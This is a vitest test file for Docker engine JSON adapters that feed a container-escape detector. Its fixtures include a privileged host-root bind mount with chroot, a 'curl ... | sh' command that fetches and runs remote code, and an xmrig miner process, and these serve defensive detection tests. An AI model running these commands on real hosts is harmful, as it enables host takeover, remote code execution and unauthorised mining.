// Engine JSON adapters: inspect, create body (case-insensitive keys), top and exec inspect.
import { describe, expect, it } from 'vitest';
import { detectionInputFromCreateBody, detectionInputFromInspect, execArgv, processesFromTop } from './adapters.js';
import { detect } from './detect.js';

describe('adapters', () => {
  it('reads an inspect document, preferring Mounts over Binds', () => {
    const i = detectionInputFromInspect({ Id: 'abc', Name: '/pcl-x', Image: 'sha256:1',
      Config: { Image: 'alpine:latest', Entrypoint: null, Cmd: ['chroot', '/mnt', 'sh', '-c', 'id'], Env: ['A=1'], Labels: { l: 'v' } },
      HostConfig: { Binds: ['/:/mnt'], Privileged: true }, Mounts: [{ Type: 'bind', Source: '/', Destination: '/mnt', RW: true }] });
    expect(i).toMatchObject({ id: 'abc', name: 'pcl-x', image: 'alpine:latest', cmd: ['chroot', '/mnt', 'sh', '-c', 'id'], privileged: true,
      mounts: [{ source: '/', destination: '/mnt', readOnly: false }] });
    expect(i.binds).toBeUndefined();
    expect(detect(i).map((f) => f.ruleId)).toContain('PCL-TTP-001');
  });
  it('falls back to Binds when Mounts are missing', () => {
    const i = detectionInputFromInspect({ Config: { Cmd: ['x'] }, HostConfig: { Binds: ['/etc:/h/etc:ro'] } });
    expect(i.binds).toEqual(['/etc:/h/etc:ro']);
  });
  it('reads a create body with odd key case and a string Cmd, pointing evidence at body fields', () => {
    const i = detectionInputFromCreateBody({ image: 'alpine', entrypoint: ['/bin/sh', '-c'], CMD: 'chroot /mnt sh -c "curl -s http://198.51.100.7/x|sh"',
      hostconfig: { binds: ['/:/mnt'] } });
    const f = detect(i);
    const ttp = f.find((x) => x.ruleId === 'PCL-TTP-001');
    expect(ttp?.severity).toBe('critical');
    expect(ttp?.evidence.map((e) => e.location)).toEqual(['HostConfig.Binds[0]', 'Cmd[0] (sh-c)']);
  });
  it('reads top output by its titles and exec inspect', () => {
    expect(processesFromTop({ Titles: ['UID', 'PID', 'PPID', 'C', 'STIME', 'TTY', 'TIME', 'CMD'],
      Processes: [['root', '12', '1', '0', '10:00', '?', '00:00:01', 'xmrig -o x']] })).toEqual([{ pid: '12', user: 'root', cmd: 'xmrig -o x' }]);
    expect(execArgv({ ProcessConfig: { entrypoint: 'sh', arguments: ['-c', 'id'] } })).toEqual(['sh', '-c', 'id']);
    expect(execArgv({ Cmd: ['id'] })).toEqual(['id']);
  });
});
